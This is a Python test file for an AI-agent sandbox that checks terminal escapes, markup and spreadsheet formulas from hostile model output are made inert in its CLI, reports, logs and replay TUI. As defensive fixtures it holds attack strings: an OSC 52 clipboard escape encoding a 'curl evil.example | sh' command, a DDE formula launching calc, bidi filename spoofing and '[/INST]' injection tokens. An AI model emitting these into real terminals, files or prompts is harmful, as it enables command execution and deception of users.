"""Nothing a model, a tool, a file or the store holds reaches a terminal or a markup parser live (issue 14 items 1
and 7): `records.inert` itself, the CLI over a hostile stored run and a hostile model server, and the replay TUI."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console
from textual.pilot import Pilot
from typer.testing import CliRunner

from failure_modes.metrics import Scores
from failure_modes.report import scores_table
from records import EpisodeStatus, RunStatus, inert
from sandbox.cli.main import app as cli_app
from sandbox.fidelity import FidelityReport, Mismatch
from sandbox.fidelity_report import print_report
from sandbox.store import Store
from tests.cli import run_sandbox
from tests.openai_server import answering, openai_server
from tests.stored_runs import (
    CLIPBOARD,
    HOSTILE,
    HOSTILE_AGENT,
    HOSTILE_CASE,
    HOSTILE_RUN,
    RETITLE,
    START,
    judged,
    make_run,
    record,
    write_hostile_run,
    write_replay_runs,
)
from tui.app import ReplayApp
from tui.episode_screen import EpisodeScreen
from tui.step_json_screen import StepJsonScreen

# What a terminal would act on: C0 controls but tab and newline, DEL, C1, the bidi embeddings, overrides and isolates.
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# A spreadsheet formula (DDE) that also holds a Markdown link and a table edge.
FORMULA_AGENT = '=cmd|"/c calc"!A1 [x](http://evil.example)'


def assert_inert(text: str) -> None:
    assert LIVE.findall(text) == [], "a control character would reach the terminal"


# ---- the function


@pytest.mark.parametrize(
    ("attack", "shown"),
    [
        (CLIPBOARD, "\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\x1b\\"),
        (RETITLE, "\\x1b]0;pwned\\x07"),
        ("\x1b[2J", "\\x1b[2J"),
        ("\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\", "\\x1b]8;;http://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\"),
        ("\x9b31m red", "\\x9b31m red"),
        ("\x9d0;title\x9c", "\\x9d0;title\\x9c"),
        ("a\rb\x08c\x7fd\x00", "a\\x0db\\x08c\\x7fd\\x00"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
        ("pay \u202eexe.pdf", "pay \\u202eexe.pdf"),
        ("\u2066isolate\u2069 and \u202aembed\u202c", "\\u2066isolate\\u2069 and \\u202aembed\\u202c"),
    ],
    ids=["osc52-clipboard", "osc0-title", "clear-screen", "osc8-link", "c1-csi", "c1-osc", "c0-del", "surrogate",
         "bidi-override", "bidi-isolates"],
)  # fmt: skip
def test_inert_shows_every_control_as_its_escape(attack: str, shown: str) -> None:
    assert inert(attack) == shown
    assert_inert(inert(attack))
    # Printable once made inert: no encoder refuses it, and it is inert again as it is.
    inert(attack).encode("utf-8")
    assert inert(inert(attack)) == inert(attack)


def test_inert_keeps_text_lines_tabs_and_every_script() -> None:
    text = "Done: $18,500 sent.\n\tRéf. 漢字 — עברית [bold] {task} ✓"
    assert inert(text) == text


# ---- the CLI over a stored hostile run


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    """The replay runs, the hostile run, and a run of an agent named as a spreadsheet formula."""
    url = f"sqlite:///{tmp_path / 'runs.db'}"
    store = Store(url)
    write_replay_runs(store)
    write_hostile_run(store)
    store.create_run(make_run("formula", FORMULA_AGENT, START))
    record(store, judged("formula", "c1", True, [], []))
    store.close()
    return url


def _cli(*args: str) -> str:
    done = CliRunner().invoke(cli_app, list(args), env={"COLUMNS": "400"})
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    assert_inert(done.output)
    return done.output


def test_markdown_leaderboard_shows_names_as_written(hostile_db: str) -> None:
    text = _cli("leaderboard", "--db", hostile_db, "--format", "md")
    assert "| evil\\[/\\]agent\\\\x1b\\]0;pwned\\\\x07\\\\x9b2J | builtin | hostile |" in text
    assert '| =cmd\\|"/c calc"!A1 \\[x\\](http://evil.example) | builtin | formula |' in text
    # Every row of the ranking has as many cells as the heading: no name cut the table.
    ranking = text.split("\n## ", 1)[0]
    table = [line for line in ranking.splitlines() if line.startswith("| ")]
    assert len(table) == 2 + 4
    assert len({len(re.split(r"(?<!\\)\|", line)) for line in table}) == 1, table


def test_csv_leaderboard_cells_are_neither_formulas_nor_controls(hostile_db: str) -> None:
    rows = {
        row["run_id"]: row
        for row in csv.DictReader(io.StringIO(_cli("leaderboard", "--db", hostile_db, "--format", "csv")))
    }
    assert rows["hostile"]["agent"] == inert(HOSTILE_AGENT)
    assert rows["formula"]["agent"] == f"'{FORMULA_AGENT}"
    assert rows["comply"]["agent"] == "baseline/comply"
    # Numbers are written as they are: only text cells are guarded.
    assert float(rows["formula"]["safety_score"]) == 1.0


def test_html_leaderboard_holds_no_control(hostile_db: str) -> None:
    text = _cli("leaderboard", "--db", hostile_db, "--format", "html")
    assert inert(HOSTILE_AGENT) in text


def test_json_keeps_names_exact_in_ascii(hostile_db: str) -> None:
    """For programs the names stay exact; written in ASCII, as JSON leaves C1 and bidi controls unescaped."""
    board = json.loads(_cli("leaderboard", "--db", hostile_db, "--format", "json"))
    assert HOSTILE_AGENT in [row["agent"] for row in board["rows"]]
    diff = json.loads(_cli("diff", "--db", hostile_db, "comply", HOSTILE_RUN, "--json"))
    assert (diff["agent_b"], diff["only_in_b"]) == (HOSTILE_AGENT, [HOSTILE_CASE])


def test_diff_of_a_hostile_run(hostile_db: str) -> None:
    text = _cli("diff", "--db", hostile_db, "comply", HOSTILE_RUN)
    assert inert(HOSTILE_AGENT) in text
    assert f"1 only in {HOSTILE_RUN}" in " ".join(text.split())  # the caption may wrap


def test_a_user_error_holding_escapes_is_inert(hostile_db: str) -> None:
    variable = f"KEY{RETITLE}[/INST]"
    done = CliRunner().invoke(cli_app, ["eval", "--db", hostile_db, "--agent", "openai/x", "--api-key-env", variable])
    assert done.exit_code == 2
    assert_inert(done.output)
    assert "error: --api-key-env names KEY\\x1b]0;pwned\\x07[/INST], which is not set" in done.output


@pytest.mark.parametrize("every", [False, True], ids=["examples", "explain"])
def test_fidelity_report_of_a_hostile_corpus_is_inert(every: bool) -> None:
    """A corpus line is a file's: its case id, environment, tool and values are printed as text, never markup."""
    mismatch = Mismatch(
        line=3, case_id=HOSTILE_CASE, environment=f"Email{RETITLE}", tool="send[/]", arguments={"to": HOSTILE},
        expected=HOSTILE, got="[/INST]",
    )  # fmt: skip
    report = FidelityReport(
        calls=1, matched=0, rate=0.0, by_environment={}, mismatches=[mismatch], unreadable_lines=[HOSTILE]
    )
    out = io.StringIO()
    print_report(report, Console(file=out, width=400), every=every)
    printed = out.getvalue()
    assert_inert(printed)
    assert "skipped \\x1b]52;c;" in printed
    assert "Email\\x1b]0;pwned\\x07.send[/]" in printed
    assert "case case\\x1b]0;pwned\\x07[/]" in printed
    assert 'got      "[/INST]"' in printed


def test_classifier_figures_named_after_a_hostile_model_print() -> None:
    """`classifier eval --classifier llm:MODEL` titles its table with the model's name."""
    name = f"llm:evil[/]{RETITLE}"
    out = io.StringIO()
    Console(file=out, width=400).print(scores_table(name, {name: Scores(n=1, accuracy=1, precision=1, recall=1, f1=1)}))
    assert_inert(out.getvalue())
    assert out.getvalue().count(inert(name)) == 2


# ---- `sandbox eval` against a hostile model server


@pytest.mark.http
def test_eval_of_a_hostile_model_finishes_and_prints_nothing_live(tmp_path: Path) -> None:
    """The model's name holds `[/]` and a format field, its server answers the first request with an error holding
    `[/INST]` and the attacks, then every request with the attacks as a final answer."""
    db = tmp_path / "runs.db"
    model = f"openai/evil[/]model{{task}}{RETITLE}"
    with openai_server(reply=answering(lambda request: HOSTILE), faults={0: "400"}, fault_message=HOSTILE) as (
        api_base,
        _log,
    ):
        done = run_sandbox(
            "eval", "--db", f"sqlite:///{db}",
            "--agent", model,
            "--api-base", api_base,
            "--sandbox", "local",
            "--limit", "2",
            "--concurrency", "1",
            "--retries", "0",
            "--no-cache",
            env={"COLUMNS": "400"},
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert_inert(done.stdout)
    assert_inert(done.stderr)
    (error_line,) = [line for line in done.stderr.splitlines() if line.startswith("error ")]
    assert "[/INST]" in error_line
    assert "\\x1b]52;c;" in error_line
    assert inert(model) in done.stderr, "the progress bar names the model, made inert"
    # The summary's title too, wrapped to the table's width.
    assert inert(model) in "".join(done.stdout.split())
    store = Store(f"sqlite:///{db}")
    (run,) = store.list_runs()
    assert store.get_run(run.id).status == RunStatus.FINISHED
    episodes = store.episodes(run.id)
    assert sorted(episode.status for episode in episodes) == [EpisodeStatus.COMPLETED, EpisodeStatus.ERROR]
    assert any(episode.final_answer == HOSTILE for episode in episodes), "stored as the model sent it"
    store.close()


# ---- the replay TUI

SIZE = (160, 60)


def _screen(pilot: Pilot[None]) -> str:
    """The screen as drawn: its SVG export holds every character the app would write into a cell."""
    return pilot.app.export_screenshot()


async def _settle(pilot: Pilot[None]) -> None:
    await pilot.pause()
    while pilot.app.workers:
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()


async def test_replay_shows_a_hostile_run_inert(hostile_db: str) -> None:
    store = Store(hostile_db)
    app = ReplayApp(store)
    async with app.run_test(size=SIZE) as pilot:
        await _settle(pilot)
        assert_inert(_screen(pilot))
        assert "evil[/]agent\\x1b]0;pwned\\x07" in _screen(pilot).replace("&#160;", " ")
        await pilot.press("enter")  # the newest run: the hostile one
        await _settle(pilot)
        assert_inert(_screen(pilot))
        for row in (0, 1):
            await pilot.press(*["down"] * row, "enter")
            await _settle(pilot)
            screen = app.screen
            assert isinstance(screen, EpisodeScreen)
            assert_inert(_screen(pilot))
            assert screen.episode is not None
            if screen.episode.steps:
                await pilot.press("n")
                await _settle(pilot)
                assert_inert(_screen(pilot))
                await pilot.press("p", "c")
                await _settle(pilot)
                assert isinstance(app.screen, StepJsonScreen)
                assert_inert(_screen(pilot))
                await pilot.press("escape")
            else:
                assert screen.episode.case_id == HOSTILE_CASE
            await pilot.press("escape")
            await _settle(pilot)
    store.close()


def test_log_lines_reach_the_terminal_inert_ours_and_litellms() -> None:
    """A log record may carry a model's text (an episode's error): it is printed with its escapes made visible."""
    script = (
        "import logging, litellm\n"
        "from sandbox.cli.logs import make_logs_inert\n"
        "make_logs_inert()\n"
        "logging.getLogger('sandbox.episode').warning('retrying after: %s', '\\x1b]0;pwned\\x07')\n"
        "logging.getLogger('LiteLLM').warning('provider said \\x1b[2J')\n"
        "try:\n"
        "    raise ValueError('\\x1b]52;c;Y3VybA==\\x1b\\\\')\n"
        "except ValueError:\n"
        "    logging.getLogger('sandbox.runner').exception('failed')\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stderr
    assert "retrying after: \\x1b]0;pwned\\x07" in done.stderr
    assert "provider said \\x1b[2J" in done.stderr
    assert "ValueError: \\x1b]52;c;Y3VybA==" in done.stderr
